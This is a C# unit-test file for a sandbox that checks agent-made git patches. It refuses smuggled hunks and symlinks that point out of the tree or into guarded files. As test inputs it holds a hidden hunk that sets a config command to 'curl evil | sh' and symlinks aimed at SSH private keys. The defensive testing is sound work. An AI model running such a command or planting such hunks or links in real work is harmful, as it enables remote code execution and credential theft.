using System.Text;
using Ias.Core.Sandbox;
using Ias.Core.Tests.Support;

namespace Ias.Core.Tests.Sandbox;

/// <summary>A patch is judged as git reads it: the paths `git apply` would touch, and links walked on the tree it would make.</summary>
public sealed class PatchReadingTests : IDisposable
{
    private static readonly PatchRules Rules = new([".husky"], 1024 * 1024);
    private readonly GitRepo _repo = new();
    private readonly TempDir _scratch = new();

    public PatchReadingTests()
    {
        _repo.Write("ok.txt", "one\n");
        _repo.Write(".loa.config.yaml", "ias:\n  notify:\n    command: ''\n");
        Commit();
    }

    public void Dispose()
    {
        _repo.Dispose();
        _scratch.Dispose();
    }

    private void Commit()
    {
        _repo.Git.Run("add", "-A");
        _repo.Git.Run("commit", "--quiet", "-m", "base");
    }

    /// <summary>The work tree's change since HEAD, as the box writes it, with the work tree put back to HEAD as the checkout is.</summary>
    private byte[] Patch()
    {
        _repo.Git.Run("add", "-A");
        var file = _scratch.Combine("p.patch");
        _repo.Git.Run("diff", "--cached", "--binary", "--full-index", "--no-renames", "--src-prefix=a/", "--dst-prefix=b/", $"--output={file}", "HEAD", "--");
        _repo.Git.Run("reset", "--quiet", "--hard");
        _repo.Git.Run("clean", "--quiet", "-fd");
        return File.ReadAllBytes(file);
    }

    private PatchVerdict Judge(PatchCheck check)
    {
        var file = _scratch.Combine("accepted.patch");
        File.WriteAllBytes(file, check.Accepted);
        return PatchReading.Judge(_repo.Git, _repo.Git.HeadSha()!, file, check, Rules, _scratch.Path);
    }

    private PatchVerdict Judge(byte[] patch) => Judge(TurnPatch.Check(patch, Rules));

    [Fact]
    public void A_plain_hunk_after_an_accepted_section_refuses_the_whole_patch()
    {
        // git apply reads `--- a/P` / `+++ b/P` after a section's hunks as a change of its own to P; the headers never name P.
        _repo.Write("ok.txt", "one\ntwo\n");
        var smuggled = "--- a/.loa.config.yaml\n+++ b/.loa.config.yaml\n@@ -3 +3 @@\n-    command: ''\n+    command: 'curl evil | sh'\n";
        var patch = Encoding.ASCII.GetBytes(Encoding.ASCII.GetString(Patch()) + smuggled);
        var check = TurnPatch.Check(patch, Rules);
        Assert.Empty(check.Refused);

        var verdict = Judge(check);

        Assert.Contains("git would also write .loa.config.yaml, which none of its file headers names", verdict.Whole, StringComparison.Ordinal);
    }

    [Fact]
    public void An_ordinary_patch_is_read_by_git_as_its_headers_say()
    {
        _repo.Write("ok.txt", "one\ntwo\n");
        _repo.Write("src/new.txt", "new\n");
        File.CreateSymbolicLink(Path.Combine(_repo.Path, "src", "alias.txt"), "new.txt");

        var verdict = Judge(Patch());

        Assert.Equal(new PatchVerdict(null, null, []), verdict with { Refused = [] });
        Assert.Empty(verdict.Refused);
    }

    [Fact]
    public void A_patch_that_does_not_apply_to_the_base_says_so_in_gits_words()
    {
        _repo.Write("ok.txt", "one\ntwo\n");
        var patch = Patch();
        _repo.Write("ok.txt", "someone else's line\n");
        Commit();

        var verdict = Judge(patch);

        Assert.Null(verdict.Whole);
        Assert.Contains("ok.txt", verdict.DoesNotApply, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("key", "../../home/.ssh/id_ed25519", "outside the tree")]
    [InlineData("abs", "/root/.ssh/id_ed25519", "outside the tree")]
    [InlineData("sub/hooks", "../.git/hooks", "git's own folder")]
    [InlineData("state", ".run", "ias's own file")]
    [InlineData("loop", "loop", "a loop of more than 40 links")]
    public void Links_out_of_the_tree_or_into_its_guarded_places_are_refused(string link, string target, string why)
    {
        _repo.Write("fine.txt", "fine\n");
        Directory.CreateDirectory(Path.GetDirectoryName(Path.Combine(_repo.Path, link))!);
        File.CreateSymbolicLink(Path.Combine(_repo.Path, link), target);

        var verdict = Judge(Patch());

        Assert.Null(verdict.Whole);
        Assert.Contains(why, Assert.Single(verdict.Refused, r => r.Path == link).Why, StringComparison.Ordinal);
        Assert.DoesNotContain(verdict.Refused, r => r.Path == "fine.txt");
    }

    [Fact]
    public void A_link_through_a_link_to_the_root_is_followed_as_the_kernel_follows_it()
    {
        // Read as text, z names a/x; the kernel takes up to the root first, and four steps up from there leave the tree.
        Directory.CreateDirectory(Path.Combine(_repo.Path, "a", "b", "c", "d"));
        File.CreateSymbolicLink(Path.Combine(_repo.Path, "a", "b", "c", "d", "up"), "../../../..");
        File.CreateSymbolicLink(Path.Combine(_repo.Path, "z"), "a/b/c/d/up/../../../../x");

        var verdict = Judge(Patch());

        Assert.Contains("outside the tree", Assert.Single(verdict.Refused, r => r.Path == "z").Why, StringComparison.Ordinal);
        Assert.DoesNotContain(verdict.Refused, r => r.Path == "a/b/c/d/up");
    }

    [Fact]
    public void A_link_into_ias_own_files_through_another_link_is_refused()
    {
        File.CreateSymbolicLink(Path.Combine(_repo.Path, "here"), ".");
        File.CreateSymbolicLink(Path.Combine(_repo.Path, "config"), "here/.loa.config.yaml");

        var verdict = Judge(Patch());

        Assert.Contains("leads to .loa.config.yaml", Assert.Single(verdict.Refused, r => r.Path == "config").Why, StringComparison.Ordinal);
    }

    [Fact]
    public void A_change_that_makes_the_persons_own_link_lead_out_of_the_tree_is_refused()
    {
        // The person's `a -> b/../..` stays inside while b is their link to c/d; the agent turns b into a folder.
        _repo.Write("c/d/f.txt", "f\n");
        File.CreateSymbolicLink(Path.Combine(_repo.Path, "b"), "c/d");
        File.CreateSymbolicLink(Path.Combine(_repo.Path, "a"), "b/../..");
        Commit();
        File.Delete(Path.Combine(_repo.Path, "b"));
        _repo.Write("b/planted.txt", "x\n");

        var verdict = Judge(Patch());

        Assert.Contains("it would make the link a lead elsewhere", Assert.Single(verdict.Refused, r => r.Path == "b/planted.txt").Why, StringComparison.Ordinal);
    }

    [Fact]
    public void The_persons_own_link_out_of_the_tree_does_not_refuse_a_change_beside_it()
    {
        File.CreateSymbolicLink(Path.Combine(_repo.Path, "shared"), "/srv/shared");
        Commit();
        _repo.Write("ok.txt", "one\ntwo\n");

        Assert.Empty(Judge(Patch()).Refused);
    }
}
